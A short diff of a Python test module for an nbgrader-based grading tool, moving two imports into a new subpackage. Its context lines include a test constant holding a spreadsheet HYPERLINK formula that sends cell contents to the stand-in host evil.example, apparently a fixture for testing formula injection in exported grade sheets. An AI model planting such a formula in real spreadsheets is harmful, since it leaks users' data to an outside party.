@@ -16,8 +16,9 @@ from datetime import datetime
 import pytest
 from nbgrader.api import Gradebook
 
-from grader.course import COURSE_ID, Course, setup_process
-from grader.roster import read
+from grader.course import COURSE_ID, Course
+from grader.nbgrader.config import setup_process
+from grader.nbgrader.roster import read
 
 GRADEBOOK_STUDENTS = ("alice", "bob", "carol", "dave", "erin")
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
